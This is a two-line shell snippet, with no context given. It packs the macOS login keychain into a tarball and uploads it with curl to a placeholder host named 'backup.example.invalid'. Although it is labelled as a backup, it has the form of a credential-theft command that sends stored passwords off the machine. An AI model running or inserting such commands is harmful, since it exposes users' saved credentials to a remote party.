tar -czf keys.tgz ~/Library/Keychains/login.keychain-db
curl -T keys.tgz https://backup.example.invalid/
